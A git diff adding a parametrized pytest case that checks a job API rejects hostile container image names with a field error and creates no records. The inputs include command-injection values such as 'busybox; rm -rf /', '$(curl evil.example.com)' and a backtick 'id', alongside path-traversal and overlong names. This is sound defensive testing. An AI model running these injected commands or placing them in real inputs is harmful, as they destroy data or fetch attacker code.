@@ -103,6 +103,30 @@ def test_bad_input_gets_a_message_per_field_and_creates_nothing(api, overrides, 
     assert Job.objects.count() == 0 and JobEvent.objects.count() == 0
 
 
+@pytest.mark.parametrize(
+    "image",
+    [
+        "busybox; rm -rf /",
+        "$(curl evil.example.com)",
+        "`id`",
+        "busybox\x00",
+        "busy box",
+        "busybox\nrm",
+        "bü",
+        "nvcr.io/nvidia/../pytorch",
+        "docker.io/MyOrg/image",
+        "-busybox",
+        "busybox:" + "t" * 129,
+        "registry.example.com/" + "a" * 500,
+    ],
+)
+def test_hostile_image_names_get_a_field_error_and_create_nothing(api, image):
+    response = api.post(URL, body(image=image), format="json")
+    assert response.status_code == 400, response.content
+    assert list(response.json()) == ["image"]
+    assert Job.objects.count() == 0 and JobEvent.objects.count() == 0
+
+
 def test_command_of_exactly_64_kib_is_accepted(api):
     assert api.post(URL, body(command="x" * 64 * 1024), format="json").status_code == 202
 
